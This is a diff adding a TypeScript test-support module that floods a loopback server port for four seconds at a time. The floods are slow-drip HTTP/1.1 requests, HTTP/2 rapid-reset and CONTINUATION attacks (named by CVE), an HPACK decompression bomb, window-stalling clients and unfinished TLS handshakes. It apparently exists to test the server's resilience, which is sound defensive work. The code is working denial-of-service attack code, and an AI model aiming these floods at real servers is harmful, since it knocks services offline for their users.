@@ -1,0 +1,155 @@
+/**
+ * What clients do that want to keep a server from serving others. Each flood goes to loopback and ends by itself.
+ */
+import { connect as connectHttp2, constants } from 'node:http2'
+import { connect, type Socket } from 'node:net'
+import { setTimeout as delay } from 'node:timers/promises'
+import { FLAG, fields, frame, number, RawHttp2, requestFields, setting, TYPE } from '../support/http2-frames.ts'
+
+/** How long a flood lasts, in milliseconds. */
+const DURATION = 4_000
+
+const INITIAL_WINDOW_SIZE = 4
+const NO_SETTINGS = Buffer.alloc(0)
+const JWKS = '/.well-known/openid-configuration/jwks'
+
+/** Floods a port. */
+type Flood = (port: number) => Promise<void>
+
+/** Floods of HTTP/1.1 and of what is below it. */
+const HTTP1_FLOODS: Readonly<Record<string, Flood>> = {
+  'heads that come a byte at a time': (port) => drip(port, 'GET / HTTP/1.1\r\nhost: x\r\n', 'a'),
+  'bodies that come a byte at a time': (port) =>
+    drip(
+      port,
+      'POST /oauth/v2/token HTTP/1.1\r\nhost: x\r\ncontent-length: 60000\r\ncontent-type: application/x-www-form-urlencoded\r\n\r\n',
+      'a',
+    ),
+  'connections that say nothing': (port) => drip(port, '', ''),
+  'requests that stop half way, by clients that do not read': (port) =>
+    drip(port, `${`GET ${JWKS} HTTP/1.1\r\nhost: x\r\n\r\n`.repeat(50)}GET / HT`, '', { reads: false }),
+  'connections that come and go': (port) =>
+    untilOver(async () => {
+      const sockets = await openSockets(port, 50)
+      for (const socket of sockets) socket.resetAndDestroy()
+    }),
+}
+
+/** Floods of HTTP/2. */
+const HTTP2_FLOODS: Readonly<Record<string, Flood>> = {
+  'requests that it takes back at once (CVE-2023-44487)': (port) =>
+    frames(port, (i) =>
+      Buffer.concat([get(2 * i + 1), frame(TYPE.reset, 0, 2 * i + 1, number(constants.NGHTTP2_CANCEL))]),
+    ),
+  settings: (port) => frames(port, () => frame(TYPE.settings, 0, 0, setting(INITIAL_WINDOW_SIZE, 65_535))),
+  pings: (port) => frames(port, () => frame(TYPE.ping, 0, 0, Buffer.alloc(8))),
+  'a head that does not end (CVE-2024-27983)': (port) =>
+    frames(port, (i) =>
+      i === 0 ? frame(TYPE.headers, 0, 1, requestFields('GET')) : frame(TYPE.continuation, 0, 1, fields([['a', 'b']])),
+    ),
+  'windows that open a byte at a time': (port) =>
+    frames(
+      port,
+      (i) =>
+        i < 90
+          ? get(2 * i + 1)
+          : Buffer.concat([
+              frame(TYPE.windowUpdate, 0, 0, number(1)),
+              frame(TYPE.windowUpdate, 0, 1 + 2 * (i % 90), number(1)),
+            ]),
+      { settings: setting(INITIAL_WINDOW_SIZE, 0) },
+    ),
+  'more requests at once than are allowed': (port) =>
+    frames(port, (i) => get(2 * i + 1), { settings: setting(INITIAL_WINDOW_SIZE, 0) }),
+  'small heads that are large when they are unpacked': (port) => frames(port, (i) => packedBomb(2 * i + 1, i === 0)),
+  'requests of a well-formed client that never reads': (port) =>
+    untilOver(async () => {
+      const session = connectHttp2(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 0 } })
+      session.on('error', () => {})
+      for (let i = 0; i < 100; i += 1) session.request({ ':path': JWKS }).on('error', () => {})
+      await delay(500)
+      session.destroy()
+    }),
+}
+
+/** Of a port without TLS. */
+export const CLEARTEXT_FLOODS = { ...HTTP1_FLOODS, ...HTTP2_FLOODS }
+
+/** Of a port with TLS. */
+export const TLS_FLOODS: Readonly<Record<string, Flood>> = {
+  // The head of a record that promises more: a ClientHello of 512 bytes.
+  'handshakes that never finish': (port) => drip(port, '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03', ''),
+}
+
+/** Every flood by its name. */
+export const FLOODS: Readonly<Record<string, Flood>> = { ...CLEARTEXT_FLOODS, ...TLS_FLOODS }
+
+/** Many connections that begin with a text and send a little more now and then. */
+async function drip(port: number, start: string, more: string, { reads = true } = {}): Promise<void> {
+  const sockets = await openSockets(port, 1_000)
+  for (const socket of sockets) {
+    if (reads) socket.resume()
+    else socket.pause()
+    if (start !== '') socket.write(start, 'latin1')
+  }
+  await untilOver(async () => {
+    for (const socket of sockets) if (more !== '' && socket.writable) socket.write(more)
+    await delay(200)
+  })
+  for (const socket of sockets) socket.destroy()
+}
+
+/** Frames as fast as they go, on a few connections, each replaced when the server closes it. */
+async function frames(
+  port: number,
+  next: (i: number) => Buffer,
+  { settings = NO_SETTINGS }: { readonly settings?: Uint8Array } = {},
+): Promise<void> {
+  const one = () =>
+    untilOver(async () => {
+      const raw = await RawHttp2.connect(port, settings)
+      raw.send(frame(TYPE.settings, FLAG.ack, 0))
+      await raw.sendUntilClosed(5_000, next)
+      raw.socket.destroy()
+      // What was received is of no interest, and would be kept.
+      raw.frames.length = 0
+      await delay(5)
+    })
+  await Promise.all([one(), one(), one(), one()])
+}
+
+function get(stream: number): Buffer {
+  return frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, stream, requestFields('GET', JWKS))
+}
+
+/** One long field goes into the dynamic table (RFC 7541 §6.2.1), and is then referred to by one byte each time. */
+function packedBomb(stream: number, isFirst: boolean): Buffer {
+  const value = Buffer.alloc(3_900, 'a')
+  const literal = Buffer.concat([Buffer.from([0x40, 1, 0x78, 0x7f, ...varint(value.length - 127)]), value])
+  const packed = Buffer.concat([
+    requestFields('GET'),
+    isFirst ? literal : Buffer.alloc(0),
+    Buffer.alloc(12_000, 0x80 | 62),
+  ])
+  return frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, stream, packed)
+}
+
+function varint(value: number): number[] {
+  return value < 128 ? [value] : [(value % 128) + 128, ...varint(Math.floor(value / 128))]
+}
+
+async function openSockets(port: number, count: number): Promise<Socket[]> {
+  const sockets: Socket[] = []
+  for (let i = 0; i < count; i += 1) {
+    const socket = connect(port, '127.0.0.1')
+    socket.on('error', () => {})
+    sockets.push(socket)
+    if (i % 50 === 49) await delay(5)
+  }
+  return sockets
+}
+
+async function untilOver(again: () => Promise<void>): Promise<void> {
+  const end = performance.now() + DURATION
+  while (performance.now() < end) await again()
+}
